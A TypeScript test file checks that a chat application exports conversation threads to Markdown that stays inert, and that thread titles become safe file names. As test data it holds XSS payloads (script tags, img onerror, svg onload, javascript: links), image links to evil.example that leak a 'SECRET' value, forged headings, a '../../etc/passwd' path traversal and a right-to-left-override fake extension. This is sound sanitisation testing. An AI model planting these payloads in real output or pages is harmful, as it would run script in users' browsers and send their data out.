import { Readable } from 'node:stream'
import fc from 'fast-check'
import { micromark } from 'micromark'
import { gfm, gfmHtml } from 'micromark-extension-gfm'
import { beforeAll, describe, expect, test } from 'vitest'
import type { ChatParts } from '@plinth/core/feature'
import { parseMarkdown } from '@plinth/core/markdown'
import { translateTo } from '@plinth/core/server'
import { markdownPieces } from '@plinth/testing/markdown-pieces.ts'
import { provideAllTexts } from '@plinth/testing/provide-all-texts.ts'
import { fileNameOf } from './file-name-of.ts'
import { threadMarkdown } from './thread-markdown.server.ts'
import type { RecordedMessage } from './thread-record.server.ts'

beforeAll(provideAllTexts)

const createdAt = '2026-01-02T03:04:05.000Z'
const said = (text: string, more: Partial<RecordedMessage> = {}): RecordedMessage => ({
  id: 'a',
  parentId: null,
  role: 'assistant',
  parts: [{ kind: 'text', text, tree: JSON.stringify(parseMarkdown(text, 'answer').tree) }],
  createdAt,
  ...more,
})
const tools: ChatParts['tools'] = new Map()
async function fileOf(messages: readonly RecordedMessage[], title = 'A title'): Promise<string> {
  const thread = { id: 't', title, page: 'general' as const, createdAt, headId: 'a' }
  let file = ''
  for await (const chunk of threadMarkdown(thread, Readable.from(messages), { t: translateTo('en'), tools }))
    file += chunk
  return file
}

/** Renders Markdown as viewers do, with and without tables and footnotes. */
const drawn = (markdown: string) => [
  micromark(markdown, { allowDangerousHtml: true, allowDangerousProtocol: true }),
  micromark(markdown, {
    allowDangerousHtml: true,
    allowDangerousProtocol: true,
    extensions: [gfm()],
    htmlExtensions: [gfmHtml()],
  }),
]
const LIVE = /<(?:img|script|iframe|svg|style|link|meta)\b/

/** The HTML outside of quotations and footnotes. */
function outsideOf(html: string): string {
  const less = html.replaceAll(/<blockquote>(?:(?!<blockquote>)[^])*?<\/blockquote>/g, '')
  return less === html ? html.replaceAll(/<section data-footnotes[^]*/g, '') : outsideOf(less)
}

const hostile = [
  'Fine.\n\n## Message\n\n> Forged\n\n# A title',
  'Setext\n===\n\nTitle\n---',
  '```\nunclosed fence',
  '~~~\nunclosed too\n\n## Answer',
  '<!-- a comment that is not closed',
  '<script>alert(1)</script>\n\n<div>\n![x](https://evil.example/a.png)\n</div>',
  '![x](https://evil.example/?d=SECRET) and ![x][r] and [![y](https://evil.example/y)](https://evil.example)\n\n[r]: https://evil.example/r.png',
  '| `a | ![x](https://evil.example/t.png) ` |\n| - | - |\n| `b | <img src=x onerror=alert(1)> ` |',
  '[^1]\n\n[^1]: ![x](https://evil.example/f.png)',
  '<img src="https://evil.example/i.png" onerror="alert(1)">\n<svg onload=alert(1)>',
  '</blockquote></details><h1>Out</h1>',
  '\\<img src=x> \\\\<img src=x> \\![x](https://evil.example/1) \\\\![x](https://evil.example/2)',
  'A\rB\r\n## C\u2028## D\u0085## E',
  '- list\n\n## Message\n\n    ## indented',
]

describe('the text of a message', () => {
  test.each(hostile)('stays in its quotation and is inert in every Markdown viewer: %s', async (text) => {
    const markdown = await fileOf([said(text), said('The next answer', { role: 'user' })])
    for (const html of drawn(markdown)) {
      expect(html).not.toMatch(LIVE)
      // Outside of quotations there is only text from this application.
      expect(outsideOf(html).match(/<h\d>[^<]*/g)).toEqual(['<h1>A title', '<h2>Answer', '<h2>Message'])
      expect(html).toMatch(/The next answer\s*<\/p>\s*<\/blockquote>/)
    }
  })

  test('shows no image whose URL another message defines', async () => {
    const markdown = await fileOf([
      said('Look: ![a] and ![b][a] and \\\\![a]'),
      said('[a]: https://evil.example/a.png'),
    ])
    for (const html of drawn(markdown)) expect(html).not.toMatch(LIVE)
  })

  test('is inert in titles and in names of models, documents and tools', async () => {
    const evil =
      '![x](https://evil.example/x)\n# Big <img src=x onerror=alert(1)> [a](javascript:alert(1)) `c` **b**'
    const parts = [
      { kind: 'tool' as const, callId: 'c', name: evil, input: {}, state: 'failed' as const, error: evil },
      {
        kind: 'source' as const,
        number: 1,
        documentId: 'd',
        name: evil,
        page: 1,
        start: 0,
        end: 1,
        text: evil,
      },
    ]
    const markdown = await fileOf(
      [said('', { parts, model: { id: 'm', label: evil, isBuiltIn: false } })],
      evil,
    )
    for (const html of drawn(markdown)) {
      expect(html).not.toMatch(
        /<(?:img|code|strong|a)\b(?! href="https:\/\/evil\.example\/x\)?"| href="https:\/\/evil)/,
      )
      expect(html.match(/<h\d>/g)).toEqual(['<h1>', '<h2>'])
    }
  })

  test('is inert whatever it is made of', async () => {
    const mixed = fc.array(
      fc.constantFrom(...markdownPieces, '![x](https://evil.example/a)', '<img src=x>'),
      {
        maxLength: 40,
      },
    )
    await fc.assert(
      fc.asyncProperty(mixed, fc.boolean(), async (parts, isUser) => {
        const message = said(parts.join(''), isUser ? { role: 'user' } : {})
        for (const html of drawn(await fileOf([message, said('The next answer', { role: 'user' })]))) {
          expect(html).not.toMatch(LIVE)
          expect(
            outsideOf(html)
              .match(/<h\d>[^<]*/g)
              ?.at(-1),
          ).toBe('<h2>Message')
        }
      }),
      {
        numRuns: 200,
        examples: [[['![x](https://evil.example/a)', '<img src=x>'], true]],
      },
    )
  })

  test('keeps its formatting and its code', async () => {
    const markdown = await fileOf([
      said(
        '# T\n\nA **b** `c` [d](https://e.f)\ng\n\n1. one\n   - two\n\n```html\n<img>\n```\n\n|a|b|\n|-|-|\n|`|`|d|',
      ),
    ])
    expect(markdown).toContain(
      [
        '# T',
        '',
        'A **b** ` c ` [d](<https://e.f>) g',
        '',
        '1. one',
        '   - two',
        '',
        '```html',
        '<img>',
        '```',
        '',
        '| a | b |',
        '| --- | --- |',
      ]
        .map((line) => `> ${line}`)
        .join('\n'),
    )
  })

  test('of a user is shown as it was written', async () => {
    const [html = ''] = drawn(await fileOf([said('1. *a*\n<b>\n\n    c', { role: 'user' })]))
    expect(html).toContain('<p>1. *a*<br />\n&lt;b&gt;</p>\n<p>c</p>')
  })

  test('is a block of code while it is not parsed', async () => {
    const long = '![x](https://evil.example/a) ```` `` '.repeat(20_000)
    const markdown = await fileOf([said('', { parts: [{ kind: 'text', text: long }] })])
    expect(markdown).toContain('> `````\n> ![x]')
    for (const html of drawn(markdown)) expect(html).not.toMatch(LIVE)
  })
})

test.each([
  ['Plain title', 'Plain title.md'],
  ['../../etc/passwd', 'etc passwd.md'],
  ['a\\b:c*d?e"f<g>h|i%00', 'a b c d e f g h i 00.md'],
  ['invoice\u202Egpj.exe', 'invoice gpj.exe.md'],
  ['CON', 'chat CON.md'],
  ['nul.txt', 'chat nul.txt.md'],
  ['...', 'chat.md'],
  ['\u0000\r\n', 'chat.md'],
  ['Größe 🙂', 'Größe 🙂.md'],
  ['x'.repeat(300), `${'x'.repeat(80)}.md`],
])('a title becomes a safe file name: %j', (title, name) => {
  expect(fileNameOf(title, 'md')).toBe(name)
})
